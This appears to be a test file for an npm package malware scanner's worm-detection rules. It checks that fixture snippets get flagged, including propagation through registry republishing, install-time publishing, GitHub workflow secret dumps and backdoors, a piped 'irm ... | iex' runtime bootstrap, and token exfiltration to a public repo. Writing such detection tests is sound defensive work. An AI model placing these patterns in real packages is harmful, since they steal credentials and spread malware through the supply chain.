import { analyze, findingsOf } from '../__fixtures__/package-builder';

describe('worm rules', () => {
  it('flags running or fetching a secret scanner', () => {
    for (const code of ["require('child_process').execSync('trufflehog filesystem / --json')", "const cp = require('child_process'); cp.spawn(bin, ['detect']); const name = 'gitleaks';", "fetch('https://x.invalid/TruffleHog_3.0_linux.tar.gz')"]) {
      const report = analyze({ files: { 'index.js': code } });
      expect(findingsOf(report, 'worm.secret-scanner')[0]).toMatchObject({ category: 'malware', severity: 'high' });
      expect(report.verdict).toBe('block');
    }
  });

  it('recognises self-propagation through the registry API', () => {
    const code = `
      const me = await (await fetch(REG + '/-/whoami', { headers })).json();
      const list = await (await fetch(REG + '/-/v1/search?text=maintainer:' + me.username)).json();
      for (const o of list.objects) {
        const doc = await (await fetch(o.package.links.npm)).json();
        doc.versions[next] = { ...latest, version: next, scripts: { postinstall: 'node x.js' } };
        await fetch(REG + '/' + o.package.name, { method: 'PUT', body: JSON.stringify({ ...doc, _attachments: { [file]: { data } } }) });
      }`;
    expect(findingsOf(analyze({ files: { 'w.js': code } }), 'worm.self-propagation')[0].severity).toBe('critical');
  });

  it('does not mistake a release tool (whoami, bump, publish of the cwd package) for a worm', () => {
    const code = "const cp = require('child_process'); cp.execSync('npm whoami'); const next = semver.inc(pkg.version, 'patch'); cp.execSync('npm version ' + next); cp.execSync('npm publish');";
    expect(findingsOf(analyze({ files: { 'cli.js': code } }), 'worm.self-propagation')).toEqual([]);
  });

  it('treats publishing from install-time code as malware on its own', () => {
    const report = analyze({ manifest: { scripts: { postinstall: 'node p.js' } }, files: { 'p.js': "require('child_process').execSync('npm publish --access public', { cwd: dir });" } });
    expect(findingsOf(report, 'worm.self-propagation')[0]).toMatchObject({ severity: 'high', category: 'malware' });
  });

  it('flags workflow injection: secrets dumps, discussion backdoors, writes from install-time code', () => {
    const dump = analyze({ files: { 'w.js': "fs.writeFileSync('.github/workflows/x.yml', 'steps:\\n  - run: echo ${{ toJSON(secrets) }}');" } });
    expect(findingsOf(dump, 'worm.workflow-injection')[0].severity).toBe('critical');
    const discussion = analyze({ files: { 'w.js': "const y = 'on: discussion\\njobs:\\n  a:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo ${{ github.event.discussion.body }}';" } });
    expect(findingsOf(discussion, 'worm.workflow-injection')[0].category).toBe('malware');
    const install = analyze({ manifest: { scripts: { postinstall: 'node w.js' } }, files: { 'w.js': "require('fs').writeFileSync(require('path').join('.github', 'workflows', 'ci.yml'), y);" } });
    expect(findingsOf(install, 'worm.workflow-injection')[0]).toMatchObject({ category: 'malware', severity: 'high' });
    const generator = analyze({ files: { 'gen.js': "fs.writeFileSync(path.join(dir, '.github', 'workflows', 'ci.yml'), 'env:\\n  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}');" } });
    expect(findingsOf(generator, 'worm.workflow-injection')[0].severity).toBe('low');
    expect(generator.verdict).toBe('clean');
  });

  it('flags a Bun/Deno bootstrap at install time, critical when it runs a large or obfuscated file', () => {
    const names = Array.from({ length: 8 }, (_, i) => `_0x${(0xbeef + i).toString(16)}`).join(',');
    const report = analyze({
      manifest: { scripts: { preinstall: 'node boot.js' } },
      files: { 'boot.js': "const { execSync } = require('child_process'); execSync('powershell -c \"irm bun.sh/install.ps1 | iex\"'); execSync('bun run ./core.js');", 'core.js': `var ${names};` },
    });
    expect(findingsOf(report, 'worm.runtime-bootstrap')[0]).toMatchObject({ category: 'malware', severity: 'critical' });
    const plain = analyze({ manifest: { scripts: { preinstall: 'deno run -A setup.ts' } }, files: { 'setup.ts': 'console.log(1)' } });
    expect(findingsOf(plain, 'worm.runtime-bootstrap')[0]).toMatchObject({ category: 'suspicious', severity: 'high' });
  });

  it('flags credential harvesting published to a new public repository', () => {
    const code = "const t = process.env.GITHUB_TOKEN; await octokit.repos.createForAuthenticatedUser({ name: 'x', private: false }); await fetch(api + '/repos/me/x/contents/data.json', { method: 'PUT', body: t });";
    expect(findingsOf(analyze({ files: { 'x.js': code } }), 'worm.repo-exfiltration')).toHaveLength(1);
  });

  it('knows the campaigns\' markers', () => {
    expect(findingsOf(analyze({ files: { 'x.js': "const desc = 'Sha1-Hulud: The Second Coming.';" } }), 'worm.known-marker')).toHaveLength(1);
    expect(findingsOf(analyze({ files: { 'setup_bun.js': '' } }), 'worm.known-marker')).toHaveLength(1);
  });
});
